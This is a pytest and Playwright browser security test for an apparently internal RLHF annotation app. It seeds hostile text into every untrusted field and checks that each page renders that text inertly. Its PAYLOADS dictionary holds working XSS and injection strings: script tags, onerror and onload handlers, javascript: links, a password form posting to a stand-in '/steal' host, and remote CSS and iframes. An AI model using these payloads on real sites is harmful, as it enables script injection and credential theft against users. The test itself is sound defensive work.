"""The standing security suite, browser side (issue 24, finding 2): hostile text in every page, in Chromium.

One app and one headless Chromium for the module. Every payload of PAYLOADS is seeded at once in
every untrusted field a page shows: task questions, contexts and choices, the traces (model
output), two annotators' rationales (shown to the admin in the Adjudicate tab: a lower role
reaching a higher one) and the Playground's answers. An admin (who sees every tab) then visits
each page of PAGES in order, and on each the counts of COUNTS must all be 0:

- ``overlays``: visible elements with ``position: fixed|absolute`` covering at least half the
  viewport, other than Gradio's own (GRADIO_OWN);
- ``forms``: ``<form>`` elements;
- ``remote_requests``: requests to any host other than 127.0.0.1 / localhost (every request is
  intercepted; remote ones are recorded and aborted);
- ``scripts``: payload code that ran (``window.__pwned`` set, a ``PWNED`` console message) or could
  run (``<script>``, ``on*=`` handlers or ``javascript:`` links inside rendered text);
- ``styles``: ``<style>``, ``<link>`` or ``style=`` inside rendered text (CSS from a payload).

Each page must also show the payloads' visible sentinel (``SENTINEL``) where it renders untrusted
text, so a page that shows nothing cannot pass. A new page is covered by adding a ``Page`` to
PAGES (how to open it, what to wait for); a new payload by adding it to PAYLOADS.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Callable
from urllib.parse import urlsplit

import pytest

from test_app_browser import CHROMIUM, CHROMIUM_ARGS, _free_port, make_cfg, write_tasks

SENTINEL = "hostile-sentinel"
REMOTE = "http://198.51.100.7"  # TEST-NET-2: never a real host
PAYLOADS = {
    "script": f"<script>window.__pwned='script';console.log('PWNED script')</script>{SENTINEL}",
    "img_onerror": "<img src=x onerror=\"window.__pwned='img_onerror';console.log('PWNED img')\">",
    "remote_img": f'<img src="{REMOTE}/remote.png">',
    "overlay_div": ('<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;'
                    f'background:rgba(255,0,0,.6)">{SENTINEL} overlay</div>'),
    "overlay_style": ("<style>#item-question,#adj-item,.prose{position:fixed!important;inset:0!important;"
                      "z-index:99999!important;background:red!important}</style>"),
    "form": f'<form action="{REMOTE}/steal" method="post"><input name="pw"><button>Send</button></form>',
    "iframe": f'<iframe src="{REMOTE}/frame"></iframe>',
    "svg_onload": "<svg onload=\"window.__pwned='svg';console.log('PWNED svg')\"><circle r=5></circle></svg>",
    "js_link": "<a href=\"javascript:window.__pwned='js_link'\">click me</a>",
    "css_import": f"<style>@import url('{REMOTE}/evil.css'); body{{background:url('{REMOTE}/bg.png')}}</style>",
    "md_image": f"![pixel]({REMOTE}/md.png)",
    "md_js_link": "[click](javascript:window.__pwned='md_link')",
    "rtl_override": "Answer: 12\u202e34",
}
ALL = "\n\n".join(PAYLOADS.values())
COUNTS = ("overlays", "forms", "remote_requests", "scripts", "styles")
# Gradio's own large positioned elements (loading masks of a component): never inside rendered text.
GRADIO_OWN = (".wrap", ".eta-bar", ".progress-bar", ".toast-wrap")
USERS = {"chief": "admin", "dr.ada": "annotator", "dr.bob": "annotator"}
PASSWORD = "correct horse battery"


@dataclass(frozen=True)
class Page:
    """One page of the app: ``open`` brings it up in ``page`` (tabs, switches, a question typed),
    ``ready`` is a selector whose text shows it has loaded, and ``shows_payload`` whether it
    renders untrusted text (its DOM must then hold SENTINEL)."""

    name: str
    open: Callable
    ready: str
    ready_text: str
    shows_payload: bool = True


def _tab(name: str) -> Callable:
    return lambda page: page.get_by_role("tab", name=name).click()


def _annotate(page):
    page.get_by_role("tab", name="Annotate").click()
    rejected = page.locator("#rejected button, #rejected .label-wrap").first
    if rejected.count():
        rejected.click()


def _pairwise(page):
    page.get_by_label("Pairwise: A, B or tie").check()


def _playground(page):
    page.get_by_role("tab", name="Playground").click()
    page.locator("#pg-question textarea").fill(ALL)
    page.locator("#ask-btn").click()


PAGES = [
    Page("guidelines", lambda page: None, "#guidelines-text", "Team guidelines", shows_payload=False),
    Page("annotate", _annotate, "#item-header", "round 1"),
    Page("pairwise", _pairwise, "#pair-view", "A is better"),
    Page("adjudicate", _tab("Adjudicate"), "#adj-item", "dr.ada"),
    Page("dashboard", _tab("Dashboard"), "#current-version", "v0", shows_payload=False),
    Page("playground", _playground, "#pg-status", "Rate each answer"),
]

MEASURE_JS = """(own) => {
  const vw = innerWidth, vh = innerHeight, rendered = '.prose, .md';
  const overlays = [];
  for (const el of document.querySelectorAll('body *')) {
    const cs = getComputedStyle(el);
    if (cs.position !== 'fixed' && cs.position !== 'absolute') continue;
    if (cs.display === 'none' || cs.visibility === 'hidden' || parseFloat(cs.opacity) === 0) continue;
    const r = el.getBoundingClientRect();
    const w = Math.max(0, Math.min(r.right, vw) - Math.max(r.left, 0));
    const h = Math.max(0, Math.min(r.bottom, vh) - Math.max(r.top, 0));
    if (w * h < 0.5 * vw * vh) continue;
    if (!el.closest(rendered) && own.some(s => el.matches(s))) continue;
    overlays.push(`${el.tagName}#${el.id}.${String(el.className).slice(0, 60)}`);
  }
  const inText = (sel) => [...document.querySelectorAll(rendered)].reduce(
      (n, root) => n + root.querySelectorAll(sel).length, 0);
  let handlers = 0;
  for (const root of document.querySelectorAll(rendered))
    for (const el of root.querySelectorAll('*'))
      for (const a of el.attributes) if (a.name.startsWith('on')) handlers++;
  return {overlays, forms: document.querySelectorAll('form').length,
          pwned: window.__pwned === undefined ? 0 : 1,
          script_tags: inText('script, iframe, object, embed'), handlers,
          js_links: document.querySelectorAll('a[href^="javascript:" i]').length,
          styles: inText('style, link, [style]'), text: document.body.innerText};
}"""


def _seed(cfg, out, model_dir):
    """Two tasks (q0 disputed by two annotators with hostile rationales, q1 unranked for the
    admin), every text hostile; returns the store."""
    from conftest import seed_rollout

    from rlhf_workbench.config import ModelConfig
    from rlhf_workbench.human.accounts import create_user
    from rlhf_workbench.human.annotation import claim_item
    from rlhf_workbench.human.duplicates import shown_entries
    from rlhf_workbench.human.pairwise import save_pairwise
    from rlhf_workbench.model.loading import load_policy
    from rlhf_workbench.store import Store
    from rlhf_workbench.tasks.task import Task

    store = Store(cfg.db_url, out)
    tasks = [Task(id=tid, question=ALL, answer="A", answer_type="choice", context=ALL,
                  choices={chr(65 + i): p for i, p in enumerate(PAYLOADS.values())}) for tid in ("q0", "q1")]
    store.add_tasks(tasks, "train")
    store.publish_version(0, None, "base", None, {}, 0)
    pair = load_policy(ModelConfig(name=str(model_dir), mixed_precision="no"))
    traces = [f"{p}\n\nAnswer: A" for p in PAYLOADS.values()] + [f"{ALL}\n\nAnswer: B"]  # the last one is rejected
    rid = seed_rollout(store, pair, {"q0": traces, "q1": traces}, tasks={t.id: t for t in tasks})
    uids = {name: create_user(store, name, PASSWORD, role) for name, role in USERS.items()}
    half = len(PAYLOADS) // 2
    rationales = {"dr.ada": "\n".join(list(PAYLOADS.values())[:half]), "dr.bob": "\n".join(list(PAYLOADS.values())[half:])}
    for name, outcome in (("dr.ada", "a"), ("dr.bob", "b")):
        claim_item(store, uids[name], rid, "q0", annotators_per_item=2)
        entries = shown_entries(store, uids["dr.ada"], rid, "q0")
        save_pairwise(store, uids[name], rid, "q0", entries[0].completion_ids, entries[1].completion_ids, outcome,
                      rationale=rationales[name], annotators_per_item=2)
    return store


@pytest.fixture(scope="module")
def browser():
    """One headless Chromium for the module (skipped where there is none)."""
    if not CHROMIUM.exists():
        pytest.skip(f"{CHROMIUM} not found")
    sync_api = pytest.importorskip("playwright.sync_api")
    pytest.importorskip("gradio")
    with sync_api.sync_playwright() as p:
        b = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS, headless=True)
        try:
            yield b
        finally:
            b.close()


@pytest.fixture(scope="module")
def counts(browser, tiny_model_dir, tmp_path_factory):
    """Visit every page of PAGES as the admin; ``{page: {count: value, ..., "text": page text}}``."""
    from playwright.sync_api import Error as PlaywrightError
    from playwright.sync_api import expect

    from rlhf_workbench.app import playground
    from rlhf_workbench.app.build import launch

    tmp = tmp_path_factory.mktemp("security-browser")
    out = tmp / "run"
    out.mkdir()
    (tmp / "guide.md").write_text("# Team guidelines\n\nRank sound reasoning first.\n")
    cfg = make_cfg(tiny_model_dir, write_tasks(tmp / "tasks.jsonl"), rounds=1)
    cfg.rollout.num_generations = len(PAYLOADS) + 1
    fb = cfg.feedback
    fb.min_verified, fb.mode, fb.annotators_per_item = 2, "ranking", 2
    fb.guidelines, fb.adjudication_threshold = str(tmp / "guide.md"), 0.0
    _seed(cfg, out, tiny_model_dir)
    port = _free_port()
    results: dict[str, dict] = {}
    with pytest.MonkeyPatch.context() as mp:
        # the Playground's two answers are hostile (no model needed)
        mp.setattr(playground.PlaygroundModels, "answer", lambda self, store, task: (0, ALL, ALL[::-1]))
        demo = launch(cfg, out, "127.0.0.1", port, block=False)
        context = browser.new_context(viewport={"width": 1400, "height": 1000})
        try:
            remote: list[str] = []
            console: list[str] = []

            def route(r):
                host = urlsplit(r.request.url).hostname
                if r.request.url.startswith(("data:", "blob:")) or host in ("127.0.0.1", "localhost"):
                    r.continue_()
                else:
                    remote.append(r.request.url)
                    r.abort()

            context.route("**/*", route)
            page = context.new_page()
            page.set_default_timeout(30_000)
            page.on("console", lambda msg: console.append(msg.text))
            page.goto(f"http://127.0.0.1:{port}/")
            page.get_by_label("username").fill("chief")
            page.get_by_label("password").fill(PASSWORD)
            page.get_by_role("button", name="Login").click()
            expect(page.locator("#guidelines-text")).to_be_visible()
            page.set_default_timeout(10_000)
            for p in PAGES:
                error = None
                try:  # a page a payload blocks (an overlay over the controls) is recorded, not fatal
                    if p.name == "annotate":
                        page.locator("#guidelines-start").click(timeout=10_000)
                    p.open(page)
                    expect(page.locator(p.ready)).to_contain_text(p.ready_text, timeout=20_000)
                except (AssertionError, PlaywrightError) as e:
                    error = str(e).splitlines()[0][:300]
                page.wait_for_timeout(1500)  # images, CSS and handlers get their chance
                m = page.evaluate(MEASURE_JS, list(GRADIO_OWN))
                results[p.name] = {
                    "overlays": len(m["overlays"]), "overlay_elements": m["overlays"], "forms": m["forms"],
                    "remote_requests": len(remote), "remote_urls": list(remote),
                    "scripts": m["pwned"] + m["script_tags"] + m["handlers"] + m["js_links"]
                    + sum("PWNED" in c for c in console),
                    "styles": m["styles"], "text": m["text"], "error": error}
                remote.clear()
                console.clear()
        finally:
            context.close()
            demo.close()
    print(json.dumps({k: {**{c: v[c] for c in COUNTS}, "error": v["error"]} for k, v in results.items()}))
    return results


@pytest.mark.filterwarnings("ignore::Warning:gradio.queueing")
@pytest.mark.parametrize("page", PAGES, ids=[p.name for p in PAGES])
def test_hostile_text_does_nothing_on_any_page(counts, page):
    got = counts[page.name]
    assert got["error"] is None, (page.name, got["error"])  # the page opened and its controls answered
    assert {c: got[c] for c in COUNTS} == dict.fromkeys(COUNTS, 0), \
        (page.name, got["overlay_elements"], got["remote_urls"])
    if page.shows_payload:  # the hostile text did reach the page, as text
        assert SENTINEL in got["text"], page.name
